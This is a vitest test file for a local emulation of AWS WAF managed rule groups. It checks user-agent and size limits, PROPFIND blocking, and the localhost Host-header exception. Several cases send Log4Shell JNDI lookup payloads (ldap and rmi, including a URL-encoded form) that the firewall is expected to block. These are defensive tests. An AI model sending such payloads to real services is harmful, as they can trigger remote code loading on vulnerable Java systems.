/**
 * AWS managed rule groups in a WAF web ACL: the documented rules the gateway applies (W7.1, W7.2), and the one it
 * does not apply to a local gateway (W7.3, Host_localhost_HEADER).
 */
import { describe, expect, it } from 'vitest';
import { blockRule, useWafFixture, wafWith, world } from './support/world.js';

useWafFixture();

describe('W7 managed rule groups: the documented rules', () => {
  it.each([
    { name: 'W7.1 NoUserAgent_HEADER blocks a request without User-Agent', init: { headers: [] as [string, string][] }, path: '/v1/ok', drop: true, want: 403 },
    { name: 'W7.1 SizeRestrictions_QUERYSTRING blocks a query over 2,048 bytes', init: {}, path: `/v1/ok?q=${'a'.repeat(2100)}`, want: 403 },
    { name: 'W7.1 a query of 2,048 bytes passes', init: {}, path: `/v1/ok?q=${'a'.repeat(2046)}`, want: 200 },
    { name: 'W7.1 SizeRestrictions_URIPATH blocks a path over 1,024 bytes', init: {}, path: `/v1/${'p'.repeat(1030)}`, want: 403 },
    { name: 'W7.2 PROPFIND_METHOD', init: { method: 'PROPFIND' }, path: '/v1/ok', want: 403 },
    { name: 'W7.2 Log4JRCE_HEADER', init: { headers: [['X-Api-Version', '${jndi:ldap://example.com/a}']] as [string, string][] }, path: '/v1/ok', want: 403 },
    { name: 'W7.2 Log4JRCE_QUERYSTRING (URL-encoded)', init: {}, path: '/v1/ok?x=%24%7Bjndi%3Aldap%3A%2F%2Fexample.com%2F%7D', want: 403 },
    { name: 'W7.2 Log4JRCE_BODY', init: { method: 'POST', headers: [['Content-Type', 'application/json']] as [string, string][], body: '{"a":"${jndi:rmi://x/}"}' }, path: '/v1/ok', want: 403 },
    { name: 'W7.1 W2.4 SizeRestrictions_BODY overridden to Count lets a 9 KB body through', init: { method: 'POST', headers: [['Content-Type', 'application/json']] as [string, string][], body: `"${'b'.repeat(9000)}"` }, path: '/v1/ok', want: 200 },
  ])('$name', async ({ init, path, want, ...rest }) => {
    const w = world();
    if ('drop' in rest) {
      const request = new Request(`http://localhost:3000${path}`, { headers: [['Host', 'localhost:3000']] });
      const res = await w.gateways.WafApi!.fetch(request, { remoteAddress: '192.0.2.1', rawHeaders: ['Host', 'localhost:3000'] });
      expect(res.status).toBe(want);
      return;
    }
    expect((await w.send(path, init)).status).toBe(want);
  });
});

describe('W7.3 Host_localhost_HEADER is not applied to the local gateway', () => {
  const LABEL = 'awswaf:managed:aws:known-bad-inputs:Host_localhost_HEADER';
  /** The KnownBadInputs group, then a rule blocking on the label Host_localhost_HEADER would add. */
  const rules = () => [
    { Name: 'bad-inputs', Priority: 0, OverrideAction: { None: {} }, Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name: 'AWSManagedRulesKnownBadInputsRuleSet' } } },
    blockRule({ LabelMatchStatement: { Scope: 'LABEL', Key: LABEL } }, 'block-on-label', 1),
  ];

  it.each([
    { host: 'localhost:3000' },
    { host: 'localhost' },
    { host: '127.0.0.1:3000' },
  ])('W7.3 Host $host: not blocked and not labelled', async ({ host }) => {
    // Prepare
    const w = world(wafWith({ Rules: rules() }));

    // Act: the Host header given replaces the one send adds (the last value counts)
    const got = await w.send('/v1/ok', { headers: [['Host', host]] });

    // Assess
    expect(got.status).toBe(200);
  });

  it('W7.3 the group\'s other documented rules still apply (PROPFIND_METHOD)', async () => {
    expect((await world(wafWith({ Rules: rules() })).send('/v1/ok', { method: 'PROPFIND' })).status).toBe(403);
  });
});
